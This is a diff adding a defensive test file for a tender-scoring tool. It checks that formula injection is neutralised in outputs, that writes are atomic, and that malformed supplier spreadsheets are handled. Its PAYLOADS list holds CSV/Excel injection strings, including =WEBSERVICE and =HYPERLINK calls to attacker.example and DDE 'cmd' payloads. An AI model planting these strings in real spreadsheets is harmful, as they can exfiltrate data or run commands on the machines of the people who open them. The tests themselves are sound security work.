@@ -1,0 +1,302 @@
+"""Supplier files are hostile until proven otherwise: no crash, no formula injection, no lost result."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from socialvalue.batch import score_folder
+from socialvalue.fill import fill_response
+from socialvalue.intake.bid_reader import read_bid
+from socialvalue.output.consensus import write_consensus_template
+from socialvalue.output.export import write_csv
+from socialvalue.output.results import AuditInfo, write_results
+from socialvalue.rubric import RubricSource
+from socialvalue.scoring import score_tender
+
+PAYLOADS = [
+    '=HYPERLINK("http://attacker.example/x","Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C notepad'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1 tabbed",
+    '=WEBSERVICE("http://attacker.example")',
+]
+
+
+def _hostile_bids(template: Path, folder: Path) -> None:
+    for i, payload in enumerate(PAYLOADS):
+        fill_response(
+            template,
+            folder / f"hostile-{i}.xlsx",
+            supplier={"supplier_name": payload, "bid_price": 1000 + i, "contact_email": payload},
+            commitments={"LE01": 1, "CB01": payload},
+            evidence={"LE01": payload + " _x0007_ escaped control char"},
+            answers={"Q1": payload, "SV1": payload * 3},
+            gates={"G1": "Yes"},
+        )
+
+
+def _formulas_in(path: Path) -> list[str]:
+    out: list[str] = []
+    with zipfile.ZipFile(path) as zf:
+        for name in zf.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                out += re.findall(r"<f[^>]*>(.*?)</f>", zf.read(name).decode("utf-8"), flags=re.S)
+    return out
+
+
+def test_no_output_holds_a_formula_built_from_supplier_text(
+    hybrid_template: Path, hybrid: RubricSource, tmp_path: Path
+) -> None:
+    bids = tmp_path / "bids"
+    _hostile_bids(hybrid_template, bids)
+    batch = score_folder(bids, hybrid)
+    results = write_results(
+        batch.result, hybrid.rubric, hybrid.value_set, tmp_path / "results.xlsx", batch.problems, AuditInfo()
+    )
+    consensus = write_consensus_template(hybrid.rubric, batch.bids, tmp_path / "consensus.xlsx")
+    for workbook in (results, consensus):
+        formulas = _formulas_in(workbook)
+        assert formulas or workbook is consensus, "the results workbook should hold live formulas"
+        for f in formulas:
+            for marker in ("attacker", "cmd", "HYPERLINK", "WEBSERVICE", "tabbed"):
+                assert marker not in f, f"{workbook.name}: formula {f!r} contains supplier text"
+        with zipfile.ZipFile(workbook) as zf:
+            names = zf.namelist()
+            assert not any("externalLink" in n or "vbaProject" in n for n in names)
+            text = "".join(zf.read(n).decode("utf-8", "replace") for n in names if n.endswith(".xml"))
+            assert "\x00" not in text
+            assert "\x07" not in text
+    # the payloads are still there, as text, so the officer sees what was sent
+    from openpyxl import load_workbook
+
+    summary = load_workbook(results)["Summary"]
+    suppliers = {c.value for c in summary["B"] if c.value}
+    assert PAYLOADS[0] in suppliers
+    assert all(c.data_type == "s" for c in summary["B"] if c.value)
+
+
+def test_csv_export_neutralises_formulas(hybrid_template: Path, hybrid: RubricSource, tmp_path: Path) -> None:
+    bids = tmp_path / "bids"
+    _hostile_bids(hybrid_template, bids)
+    batch = score_folder(bids, hybrid)
+    rows = list(csv.DictReader(io.StringIO(write_csv(batch.result, tmp_path / "r.csv").read_text())))
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t")) or _is_number(value), value
+
+
+def test_clean_text_removes_control_characters() -> None:
+    from socialvalue.output.safe import clean_text, csv_text
+
+    assert clean_text("a\x00b\x07c\td\ne") == "abc\td\ne"
+    assert csv_text("=1+1") == "'=1+1"
+    assert csv_text("\t=1") == "'\t=1"
+    assert csv_text("plain") == "plain"
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_over_long_text_is_cut_visibly(hybrid_template: Path, hybrid: RubricSource, tmp_path: Path) -> None:
+    bids = tmp_path / "bids"
+    fill_response(
+        hybrid_template, bids / "long.xlsx",
+        supplier={"supplier_name": "Long Ltd", "bid_price": 10}, evidence={"LE01": "word " * 9000},
+    )  # fmt: skip
+    batch = score_folder(bids, hybrid)
+    out = write_results(batch.result, hybrid.rubric, hybrid.value_set, tmp_path / "r.xlsx", batch.problems, AuditInfo())
+    from openpyxl import load_workbook
+
+    ws = load_workbook(out)["Social value"]
+    evidence = [c.value for c in ws["S"] if isinstance(c.value, str) and c.value.startswith("word")]
+    assert evidence
+    assert len(evidence[0]) <= 32_767
+    # a supplier's cell cannot exceed Excel's limit; text the tool builds can, and is cut visibly
+    from socialvalue.output.safe import clean_text
+
+    cut = clean_text("word " * 9000)
+    assert len(cut) <= 32_767
+    assert cut.endswith("…[cut: 45,000 characters, first 32,721 shown]")
+
+
+# --- atomic writes ---------------------------------------------------------------------------
+
+_SLOW_WRITER = """
+import sys
+from pathlib import Path
+from socialvalue.rubric import load_rubric
+from socialvalue.scoring import score_tender
+from socialvalue.output.results import AuditInfo, write_results
+from tests.builders import bid
+source, _ = load_rubric("local-measures")
+bids = [bid(f"s{i}", 1000 + i, {"LE01": i % 7, "CB01": i}) for i in range(4000)]
+result = score_tender(source.rubric, source.value_set, bids)
+print("writing", flush=True)
+write_results(result, source.rubric, source.value_set, Path(sys.argv[1]), [], AuditInfo())
+print("done", flush=True)
+"""
+
+
+def test_killed_writer_leaves_the_previous_results_intact(tmp_path: Path) -> None:
+    target = tmp_path / "results.xlsx"
+    target.write_bytes(b"previous results")
+    root = Path(__file__).resolve().parent.parent
+    proc = subprocess.Popen(
+        [sys.executable, "-c", _SLOW_WRITER, str(target)], cwd=root, stdout=subprocess.PIPE, text=True
+    )
+    assert proc.stdout is not None
+    assert proc.stdout.readline().strip() == "writing"
+    time.sleep(0.5)  # well into writing 4,000 bids' rows
+    assert proc.poll() is None, "the writer finished before it could be killed: make the output larger"
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    assert target.read_bytes() == b"previous results"
+    leftovers = [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
+    assert all(p.name.startswith(".results.xlsx.") for p in leftovers)  # only our own temp file, beside the target
+
+
+def test_refuses_to_write_over_an_input(hybrid: RubricSource, example_tender, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    from socialvalue.output.atomic import OutputError
+
+    batch = score_folder(example_tender.bids_dir, hybrid)
+    victim = batch.files[0]
+    before = victim.read_bytes()
+    with pytest.raises(OutputError, match="input"):
+        write_results(batch.result, hybrid.rubric, hybrid.value_set, victim, [], AuditInfo(), inputs=batch.files)
+    assert victim.read_bytes() == before
+
+
+# --- mutation: nothing but our own problems comes out of the reader ---------------------------
+
+
+def _mutate_zip(data: bytes, entry: str, how: str, blob: bytes) -> bytes:
+    src = zipfile.ZipFile(io.BytesIO(data))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            content = src.read(info.filename)
+            if info.filename == entry:
+                if how == "drop":
+                    continue
+                if how == "truncate":
+                    content = content[: len(blob) % max(1, len(content))]
+                elif how == "replace":
+                    content = blob
+                elif how == "inject":
+                    cut = len(blob) % max(1, len(content))
+                    content = content[:cut] + blob + content[cut:]
+            dst.writestr(info.filename, content)
+    return out.getvalue()
+
+
+@pytest.fixture(scope="module")
+def filled_bid(hybrid_template: Path, tmp_path_factory: pytest.TempPathFactory) -> bytes:
+    path = tmp_path_factory.mktemp("mut") / "bid.xlsx"
+    fill_response(
+        hybrid_template, path,
+        supplier={"supplier_name": "Mutant Ltd", "bid_price": 1000}, commitments={"LE01": 2, "SK01": "1,200"},
+        answers={"Q1": "An answer"}, gates={"G1": "Yes"},
+    )  # fmt: skip
+    return path.read_bytes()
+
+
+ENTRIES = [
+    "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml",
+    "xl/worksheets/sheet5.xml", "xl/worksheets/sheet6.xml", "xl/sharedStrings.xml", "xl/workbook.xml",
+    "xl/styles.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels",
+]  # fmt: skip
+
+
+@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    entry=st.sampled_from(ENTRIES),
+    how=st.sampled_from(["drop", "truncate", "replace", "inject"]),
+    blob=st.one_of(
+        st.binary(max_size=200),
+        st.sampled_from(
+            [
+                b"<row r='5'><c r='E5' t='s'><v>99999</v></c></row>",
+                b"<c r='E4'><v>NaN</v></c>",
+                b"<dimension ref='A1:XFD1048576'/>",
+                b"<c r='E4' t='e'><v>#DIV/0!</v></c>",
+                b"<c r='E4' t='b'><v>1</v></c>",
+                b"<c r='E4'><f>1/0</f></c>",
+                b"\xff\xfe<\x00",
+            ]
+        ),
+    ),
+)
+def test_mutated_workbooks_never_escape_the_reader(
+    filled_bid: bytes, hybrid: RubricSource, tmp_path: Path, entry: str, how: str, blob: bytes
+) -> None:
+    path = tmp_path / "mutant.xlsx"
+    path.write_bytes(_mutate_zip(filled_bid, entry, how, blob))
+    reading = read_bid(path, hybrid.rubric)  # must not raise
+    assert reading.bid is not None or reading.problems, "an unreadable file must say why"
+    if reading.bid is not None:
+        score_tender(hybrid.rubric, hybrid.value_set, [reading.bid])
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    st.lists(
+        st.one_of(
+            st.text(st.characters(blacklist_categories=("Cc", "Cs")), max_size=40),
+            st.floats(allow_nan=True, allow_infinity=True),
+            st.booleans(),
+        ),
+        min_size=4,
+        max_size=4,
+    )
+)
+def test_any_typed_values_are_read_or_reported(
+    hybrid_template: Path, hybrid: RubricSource, tmp_path: Path, values: list[object]
+) -> None:
+    path = tmp_path / "typed.xlsx"
+    codes = ["LE01", "LE02", "SK01", "EN01"]
+    fill_response(hybrid_template, path, supplier={"supplier_name": "T", "bid_price": values[0]},  # type: ignore[dict-item]
+                  commitments=dict(zip(codes, values, strict=True)))  # type: ignore[arg-type]  # fmt: skip
+    reading = read_bid(path, hybrid.rubric)
+    assert reading.bid is not None
+    for code in codes:
+        c = reading.bid.commitments[code]
+        reported = any(p.cell == c.cell.split("!")[1] for p in reading.problems)
+        # every quantity is a finite non-negative number, blank, or reported at its cell
+        assert (
+            c.quantity is None
+            or (c.quantity >= 0 and c.quantity == c.quantity and c.quantity != float("inf"))
+            or reported
+        )
+
+
+def test_other_bids_keep_their_scores_when_one_is_hostile(example_tender, hybrid: RubricSource, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    clean = score_folder(example_tender.bids_dir, hybrid, [example_tender.consensus])
+    mixed = tmp_path / "bids"
+    shutil.copytree(example_tender.bids_dir, mixed)
+    (mixed / "bomb.xlsx").write_bytes(b"PK\x03\x04" + b"\x00" * 100)
+    (mixed / "empty.xlsx").write_bytes(b"")
+    again = score_folder(mixed, hybrid, [example_tender.consensus])
+    before = {b.file: (b.total, b.rank) for b in clean.result.bids}
+    after = {b.file: (b.total, b.rank) for b in again.result.bids}
+    for file, score in before.items():
+        assert after[file] == score
+    assert {"bomb.xlsx", "empty.xlsx"} <= {p.file for p in again.problems}
